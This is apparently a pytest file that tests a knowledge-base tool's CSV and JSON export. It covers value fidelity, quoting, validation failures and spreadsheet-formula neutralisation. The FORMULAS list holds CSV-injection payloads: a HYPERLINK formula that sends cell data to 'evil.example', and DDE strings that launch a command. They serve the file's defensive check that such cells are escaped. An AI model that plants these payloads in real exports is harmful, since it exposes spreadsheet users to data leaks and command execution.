"""``kb export --format csv|json --out DIR``: the downloads carry the raw YAML values."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from conftest import CATALOG_NAMES

from kb.cli import main

# The vendor of the shared tree, as its YAML says it (written out by hand).
LABEL_TOOL = {
    "id": "label-tool",
    "name": "Label Tool",
    "summary": "An open-source labeling tool.",
    "website": "https://label-tool.example.org/",
    "added": "2024-04-01",
    "offering": "tool",
    "license": "open-source",
    "techniques": ["bounding-box", "polygon"],
    "data_types": ["image", "video"],
    "deployment": ["self-hosted"],
    "sourcing_modes": ["in-house"],
    "sources": [
        {
            "url": "https://example.com/article",
            "title": "An article about the subject",
            "kind": "vendor",
            "accessed": "2024-05-01",
            "supports": [
                "offering",
                "license",
                "techniques",
                "data_types",
                "deployment",
                "sourcing_modes",
            ],
        }
    ],
    "last_verified": "2024-05-02",
}


def _export(cli: Any, fmt: str, out: Path) -> list[str]:
    r = cli("export", "--format", fmt, "--out", str(out))
    assert (r.code, r.err) == (0, "")
    return r.out.splitlines()


def test_json_is_a_list_of_entries_with_raw_values(tree: Any, cli: Any) -> None:
    out = tree.base / "site-data"
    printed = _export(cli, "json", out)
    assert sorted(printed) == sorted(str(out / f"{c}.json") for c in CATALOG_NAMES)
    vendors = json.loads((out / "annotation-vendors.json").read_text(encoding="utf-8"))
    assert isinstance(vendors, list) and len(vendors) == 1
    got = vendors[0]
    assert next(iter(got)) == "id"
    # every value the YAML sets is there, unchanged; defaults may be added (pricing: [])
    assert {k: got[k] for k in LABEL_TOOL} == LABEL_TOOL
    assert set(got) - set(LABEL_TOOL) <= {"pricing"}
    techniques = json.loads((out / "annotation-techniques.json").read_text(encoding="utf-8"))
    assert [e["id"] for e in techniques] == ["bounding-box", "polygon"]
    assert techniques[0]["dimensions"] == ["2d", "3d"]
    case = json.loads((out / "case-studies.json").read_text(encoding="utf-8"))[0]
    assert (case["result"], case["task"]) == (0.86, "image-classification")


def test_csv_reads_back_with_pandas(tree: Any, cli: Any) -> None:
    out = tree.base / "csv"
    _export(cli, "csv", out)
    for catalog in CATALOG_NAMES:
        frame = pd.read_csv(out / f"{catalog}.csv")
        assert list(frame.columns[:3]) == ["id", "name", "summary"]
        assert "last_verified" in frame.columns
    optimizers = pd.read_csv(out / "image-optimizers.csv")
    assert optimizers["id"].tolist() == ["squeeze"]
    assert int(optimizers.loc[0, "max_batch"]) == 20
    assert json.loads(optimizers.loc[0, "input_formats"]) == ["jpeg", "png"]
    vendors = pd.read_csv(out / "annotation-vendors.csv")
    assert json.loads(vendors.loc[0, "sources"]) == LABEL_TOOL["sources"]


def test_csv_and_json_list_the_same_ids(tree: Any, cli: Any) -> None:
    tree.write("annotation-techniques", "landmark", _landmark())
    _export(cli, "csv", tree.base / "out")
    _export(cli, "json", tree.base / "out")
    for catalog in CATALOG_NAMES:
        frame = pd.read_csv(tree.base / "out" / f"{catalog}.csv")
        entries = json.loads((tree.base / "out" / f"{catalog}.json").read_text(encoding="utf-8"))
        assert frame["id"].tolist() == [e["id"] for e in entries]
        assert len(entries) >= 1
    frame = pd.read_csv(tree.base / "out" / "annotation-techniques.csv")
    assert frame["id"].tolist() == ["bounding-box", "landmark", "polygon"]


def _landmark() -> str:
    return """\
id: landmark
name: Landmarking
summary: 'Points placed on features, e.g. "eyes", with commas, and <b>markup</b>.'
geometry: points
dimensions: [2d]
typical_uses: ["face recognition, pose estimation", 'a "quoted" use']
sources:
  - url: https://example.com/landmarks
    title: Landmarks
    accessed: 2024-01-01
    kind: vendor
last_verified: 2024-01-02
added: 2024-04-01
"""


def test_awkward_text_survives_both_formats(tree: Any, cli: Any) -> None:
    tree.write("annotation-techniques", "landmark", _landmark())
    _export(cli, "csv", tree.base / "out")
    _export(cli, "json", tree.base / "out")
    summary = 'Points placed on features, e.g. "eyes", with commas, and <b>markup</b>.'
    uses = ["face recognition, pose estimation", 'a "quoted" use']
    frame = pd.read_csv(tree.base / "out" / "annotation-techniques.csv").set_index("id")
    assert frame.loc["landmark", "summary"] == summary
    assert json.loads(frame.loc["landmark", "typical_uses"]) == uses
    data = json.loads((tree.base / "out" / "annotation-techniques.json").read_text("utf-8"))
    landmark = next(e for e in data if e["id"] == "landmark")
    assert (landmark["summary"], landmark["typical_uses"]) == (summary, uses)


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_invalid_data_is_not_exported(tree: Any, cli: Any, fmt: str) -> None:
    text = tree.valid("sourcing-modes", "in-house").replace("{rating: expensive", "{rating: pricey")
    tree.write("sourcing-modes", "in-house", text)
    out = tree.base / "out"
    r = cli("export", "--format", fmt, "--out", str(out))
    assert r.code == 1
    where = "catalog/sourcing-modes/in-house.yml:5:17"
    assert f"{where}: price.rating: 'pricey' is not allowed" in r.both
    assert r.both.strip().endswith("kb: not exported: fix the problems above first")
    assert not out.exists()


def test_export_without_a_catalog(
    tmp_path: Path, cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    r = cli("export", "--format", "json", "--out", "out")
    assert r.code == 1
    assert "catalog:1:1: is not a folder of catalogs" in r.both
    assert "Traceback" not in r.both


def test_out_is_a_file(tree: Any, cli: Any) -> None:
    (tree.base / "taken").write_text("not a folder\n", encoding="utf-8")
    r = cli("export", "--format", "csv", "--out", "taken")
    assert r.code == 1
    assert r.both.strip() == "kb: cannot write to taken: File exists"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\uff1d1+1",  # a full-width equals sign
]


def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(tree: Any, cli: Any) -> None:
    # Valid entries whose text starts like a formula: the CSV neutralises each cell with a
    # leading apostrophe, the JSON keeps the value exactly.
    for i, formula in enumerate(FORMULAS):
        text = _landmark().replace("id: landmark", f"id: formula-{i}")
        text = text.replace("name: Landmarking", f"name: {json.dumps(formula)}")
        tree.write("annotation-techniques", f"formula-{i}", text)
    _export(cli, "csv", tree.base / "out")
    _export(cli, "json", tree.base / "out")
    with (tree.base / "out" / "annotation-techniques.csv").open(newline="", encoding="utf-8") as f:
        rows = {r["id"]: r for r in csv.DictReader(f)}
    entries = json.loads((tree.base / "out" / "annotation-techniques.json").read_text("utf-8"))
    names = {e["id"]: e["name"] for e in entries}
    for i, formula in enumerate(FORMULAS):
        cell = rows[f"formula-{i}"]["name"]
        assert cell == "'" + formula, cell
        assert names[f"formula-{i}"] == formula
    assert rows["bounding-box"]["name"] == "Bounding box"  # ordinary text is untouched


def test_the_use_the_data_page_s_pandas_lines_work_on_a_real_export(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CSV example of docs/use-the-data.md, run as printed on an export of the real
    catalogs (its download address pointed at the exported files)."""
    root = Path(__file__).resolve().parents[2]
    page = (root / "docs" / "use-the-data.md").read_text(encoding="utf-8")
    blocks = re.findall(r"```python\n(.*?)```", page, re.S)
    code = next(b for b in blocks if "downloads/" in b and "read_csv" in b)
    monkeypatch.chdir(root)
    assert main(["export", "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    assert main(["export", "--format", "json", "--out", str(tmp_path / "json")]) == 0
    url = "https://example.org/cv-kb/downloads/"
    assert url in code
    names: dict[str, Any] = {}
    exec(code.replace(url, f"{tmp_path / 'csv'}/"), names)  # the page's own code

    def raw(catalog: str) -> list[dict[str, Any]]:
        data: list[dict[str, Any]] = json.loads((tmp_path / "json" / f"{catalog}.json").read_text())
        return data

    vendors = raw("annotation-vendors")
    for got, vendor in zip(names["techniques"], vendors, strict=True):
        assert got == vendor["techniques"] if "techniques" in vendor else pd.isna(got)
    levels = [g.get("ease_of_use", {}).get("rating") for g in raw("image-generators")]
    for got, level in zip(names["ease"], levels, strict=True):
        assert got == level if level is not None else pd.isna(got)
    assert any(isinstance(level, str) for level in levels)
    for frame, catalog, columns in (
        (names["generators"], "image-generators", ["max_resolution_px"]),
        (names["cases"], "case-studies", ["samples", "epochs"]),
    ):
        for column in columns:
            assert str(frame[column].dtype) == "Int64"
            expected = [e.get(column) for e in raw(catalog)]
            assert [None if pd.isna(x) else int(x) for x in frame[column]] == expected
    assert names["generators"]["max_resolution_px"].isna().any()  # blanks: dtype matters
